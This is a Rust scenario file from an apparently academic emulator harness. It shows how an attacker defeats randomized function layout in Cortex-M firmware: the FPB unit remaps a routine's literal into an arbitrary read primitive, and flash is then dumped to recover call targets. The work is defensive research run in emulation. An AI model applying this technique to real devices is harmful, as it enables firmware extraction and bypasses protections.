//! Recover a randomized function layout through an array-dereference routine
//! whose array base is a literal constant.
//!
//! The firmware has sixteen 32-byte function slots in a seed-dependent order.
//! Each slot ends in a literal word loaded by `ldr r0, [pc, #24]`. One of the
//! functions, `serve`, returns `array[mailbox]` on the output port, and its
//! literal is the array base. The attacker guesses which slot's literal is the
//! array base by remapping it to the vector table, checks the guess against
//! the known reset code, and then reads flash word by word to disassemble
//! `main` and recover the call targets.

use std::collections::BTreeMap;

use fpb_emu::asm::{Assembler, Program};
use fpb_emu::isa::{decode, is_wide, Instruction, Reg};
use fpb_emu::machine::Stop;
use fpb_emu::scb::VTOR;
use fpb_emu::Machine;
use rand::seq::SliceRandom;
use rand::SeedableRng;
use rand_chacha::ChaCha8Rng;

use super::default_config;
use crate::attacker::Attacker;
use crate::context::{ScenarioContext, ScenarioError, Session};
use crate::firmware::{self, load_and_boot, words_to_bytes, FLASH, OUT, SRAM, STACK_TOP};
use crate::report::{Expect, ScenarioReport, Value};
use crate::{drive, ScenarioOutcome};

pub const NAME: &str = "derandomize_epoxy";
pub const SLOTS: usize = 16;
const SLOT_SIZE: u32 = 32;
const LITERAL_OFFSET: u32 = 28;
/// Id of the array-dereference routine; ids below it are ordinary functions.
const SERVE: usize = SLOTS - 1;
pub const FUNCS: u32 = FLASH + 0x400;
const ARRAY: u32 = SRAM;
const MAILBOX: u32 = SRAM + 0x100;
const READ_BUDGET: u64 = 500;
/// Upper bound on instructions disassembled per routine.
const WALK_LIMIT: usize = 64;

/// Slot index of every function id for a layout seed.
pub fn layout(seed: u64) -> [usize; SLOTS] {
    let mut slots: Vec<usize> = (0..SLOTS).collect();
    slots.shuffle(&mut ChaCha8Rng::seed_from_u64(seed));
    slots.try_into().expect("SLOTS entries")
}

fn fn_label(id: usize) -> String {
    if id == SERVE {
        "serve".to_string()
    } else {
        format!("fn{id}")
    }
}

/// The reset code every build shares; the attacker knows these bytes.
fn emit_reset_prefix(a: &mut Assembler) {
    for r in [Reg::R0, Reg::R1, Reg::R2, Reg::R3] {
        a.movs(r, 0);
    }
}

pub fn known_reset_prefix() -> Result<[u32; 2], ScenarioError> {
    let mut a = Assembler::new(0);
    emit_reset_prefix(&mut a);
    let p = a.finish()?;
    Ok([p.word_at(0).expect("4 halfwords"), p.word_at(4).expect("4 halfwords")])
}

/// `construct` selects whether `serve` loads the array base from its literal.
pub fn build(seed: u64, construct: bool) -> Result<Program, ScenarioError> {
    let slot_of = layout(seed);
    let mut a = Assembler::new(FLASH);
    firmware::vector_table(&mut a, STACK_TOP, &[]);
    firmware::unhandled(&mut a);
    a.align(4);
    a.label("reset");
    emit_reset_prefix(&mut a);
    a.bl("main");
    a.b_self();

    a.label("main");
    for id in 0..SERVE {
        a.bl(&fn_label(id));
    }
    a.label("serve_loop");
    a.ldr_const(Reg::R1, MAILBOX);
    a.ldr(Reg::R1, Reg::R1, 0);
    a.ldr_const(Reg::R2, OUT);
    a.bl("serve");
    a.b("serve_loop");
    a.pool();

    let here = a.here();
    if here > FUNCS {
        return Err(ScenarioError::Firmware("main overlaps the function slots".into()));
    }
    a.space((FUNCS - here) as usize);
    for slot in 0..SLOTS {
        let id = slot_of.iter().position(|&s| s == slot).expect("permutation");
        let start = a.here();
        a.label(&fn_label(id));
        let literal = if id == SERVE {
            if construct {
                a.emit(Instruction::LdrLit { rt: Reg::R0, imm: (LITERAL_OFFSET - 4) as u16 });
            } else {
                a.movs(Reg::R0, 1);
                a.lsls(Reg::R0, Reg::R0, 29);
            }
            a.ldr_reg(Reg::R0, Reg::R0, Reg::R1);
            a.str(Reg::R0, Reg::R2, 0);
            a.bx(Reg::LR);
            if construct {
                ARRAY
            } else {
                0
            }
        } else {
            a.emit(Instruction::LdrLit { rt: Reg::R0, imm: (LITERAL_OFFSET - 4) as u16 });
            a.adds8(Reg::R0, id as u8);
            a.bx(Reg::LR);
            0x1000 + 0x11 * id as u32
        };
        while a.here() < start + LITERAL_OFFSET {
            a.nop();
        }
        a.word(literal);
    }
    firmware::finish(a)
}

/// What the attacker observes and controls: the output port, the mailbox
/// and the FPB.
struct Probe<'s> {
    session: &'s mut Session,
    machine: Machine,
    run: &'static str,
    literal_slot: Option<u32>,
    reads: u64,
}

impl Probe<'_> {
    /// Runs until `serve` prints once more and returns the value.
    fn next_output(&mut self) -> Option<u32> {
        let before = self.machine.bus.mmio_log().len();
        self.session.run_for(&mut self.machine, self.run, &[Stop::MmioWrite], READ_BUDGET);
        self.reads += 1;
        let log = self.machine.bus.mmio_log();
        (log.len() > before).then(|| log[log.len() - 1].value)
    }

    /// Arms the literal comparator on `literal` with remap value `base` and
    /// reads `base + offset` through `serve`.
    fn read(&mut self, literal: u32, base: u32, offset: u32) -> Result<Option<u32>, ScenarioError> {
        let mut atk = Attacker::new(&mut self.machine);
        if self.literal_slot != Some(literal) {
            atk.remap_literal(0, literal, base)?;
            self.literal_slot = Some(literal);
        } else {
            let slot = u32::from(atk.machine.config().fpb.num_code);
            let table = 0x2000_0000 | (atk.read(fpb_emu::fpb::FP_REMAP_ADDR)? & 0x1FFF_FFE0);
            atk.write(table + 4 * slot, base)?;
        }
        atk.write(MAILBOX, offset)?;
        Ok(self.next_output())
    }
}

struct Recovery {
    guesses: usize,
    reset_vector: u32,
    /// Call targets in the order `main` calls them.
    targets: Vec<u32>,
}

fn attack(probe: &mut Probe<'_>) -> Result<Recovery, ScenarioError> {
    let prefix = known_reset_prefix()?;
    let vtor = Attacker::new(&mut probe.machine).read(VTOR)?;
    let flash = FLASH..FLASH + fpb_emu::machine::DEFAULT_FLASH_SIZE;
    let mut found = None;
    for k in 0..SLOTS {
        let literal = FUNCS + SLOT_SIZE * k as u32 + LITERAL_OFFSET;
        let Some(reset_vector) = probe.read(literal, vtor + 4, 0)? else { continue };
        if reset_vector & 1 == 0 || !flash.contains(&reset_vector) {
            continue;
        }
        let reset = reset_vector & !1;
        let w0 = probe.read(literal, reset, 0)?;
        let w1 = probe.read(literal, reset, 4)?;
        if w0 == Some(prefix[0]) && w1 == Some(prefix[1]) {
            found = Some((k + 1, literal, reset_vector));
            break;
        }
    }
    let (guesses, literal, reset_vector) = found.ok_or(ScenarioError::GuessSpaceExhausted { guesses: SLOTS })?;
    let reset = reset_vector & !1;

    let mut words: BTreeMap<u32, u32> = BTreeMap::new();
    let mut halfword = |probe: &mut Probe<'_>, addr: u32| -> Result<u16, ScenarioError> {
        let aligned = addr & !3;
        let w = match words.get(&aligned) {
            Some(&w) => w,
            None => {
                let w = probe.read(literal, aligned, 0)?.ok_or(ScenarioError::ReadFaulted(aligned))?;
                words.insert(aligned, w);
                w
            }
        };
        Ok((w >> (8 * (addr & 2))) as u16)
    };
    // Disassembles from `pc` collecting bl targets up to the first `b`.
    let mut walk = |probe: &mut Probe<'_>, mut pc: u32, stop_at_first_bl: bool| -> Result<Vec<u32>, ScenarioError> {
        let mut calls = Vec::new();
        for _ in 0..WALK_LIMIT {
            let lo = halfword(probe, pc)?;
            let hi = if is_wide(lo) { Some(halfword(probe, pc + 2)?) } else { None };
            let insn = decode(lo, hi);
            match insn {
                Instruction::Bl { .. } => {
                    calls.push(insn.branch_target(pc).expect("bl has a target"));
                    if stop_at_first_bl {
                        return Ok(calls);
                    }
                }
                Instruction::B { .. } => return Ok(calls),
                _ => {}
            }
            pc += insn.size();
        }
        Ok(calls)
    };
    let main = walk(probe, reset, true)?;
    let main = *main.first().ok_or_else(|| ScenarioError::Firmware("reset code has no call".into()))?;
    let targets = walk(probe, main, false)?;
    Ok(Recovery { guesses, reset_vector, targets })
}

fn probe<'s>(session: &'s mut Session, ctx: &ScenarioContext, program: &Program, run: &'static str) -> Result<Probe<'s>, ScenarioError> {
    let mut m = session.machine(default_config(ctx)?)?;
    let array: Vec<u32> = (0..SLOTS as u32).map(|i| 3 * i + 1).collect();
    m.load_bytes(ARRAY, &words_to_bytes(&array))?;
    load_and_boot(&mut m, &[program])?;
    Ok(Probe { session, machine: m, run, literal_slot: None, reads: 0 })
}

pub fn derandomize_epoxy(ctx: &ScenarioContext, layout_seed: u64, construct: bool) -> ScenarioOutcome {
    drive(NAME, ctx, |session, report: &mut ScenarioReport| {
        let program = build(layout_seed, construct)?;
        report.record("layout_seed", Value::Count(layout_seed));

        let mut control = probe(session, ctx, &program, "control")?;
        let first = control.next_output();
        report.record("control.first_output", first.map_or(Value::Text("none".into()), Value::Word));
        let control_leaks = first.is_some_and(|v| v >= FLASH && v < FLASH + fpb_emu::machine::DEFAULT_FLASH_SIZE);
        report.expect_eq("control.leaks_flash", Value::Flag(control_leaks), Value::Flag(false));

        let mut p = probe(session, ctx, &program, "attack")?;
        p.next_output();
        let mut atk = Attacker::new(&mut p.machine);
        atk.place_table(SRAM + 0x400)?;
        atk.enable_fpb()?;
        let recovery = attack(&mut p);
        report.record("attack.reads", Value::Count(p.reads));
        let recovery = recovery?;
        report.expect("attack.guesses", Value::Count(recovery.guesses as u64), Expect::AtMost(SLOTS as u64));

        let truth: Vec<u32> = (0..SLOTS).map(|id| program.addr(&fn_label(id))).collect();
        let matched = recovery.targets == truth;
        report.record("attack.recovered_functions", Value::Count(recovery.targets.len() as u64));
        report.expect_eq("attack.layout_matches", Value::Flag(matched), Value::Flag(true));
        let leaked = recovery.reset_vector;
        report.expect_eq("attack.leaked_reset_vector", Value::Word(leaked), Value::Word(program.addr("reset") | 1));
        let attack_leaks = leaked >= FLASH && leaked < FLASH + fpb_emu::machine::DEFAULT_FLASH_SIZE;
        report.expect_eq("attack.leaks_flash", Value::Flag(attack_leaks), Value::Flag(true));
        report.expect_differs("attack.leaks_flash", "control.leaks_flash");
        Ok(())
    })
}

pub fn run(ctx: &ScenarioContext) -> ScenarioOutcome {
    derandomize_epoxy(ctx, ctx.seed, true)
}
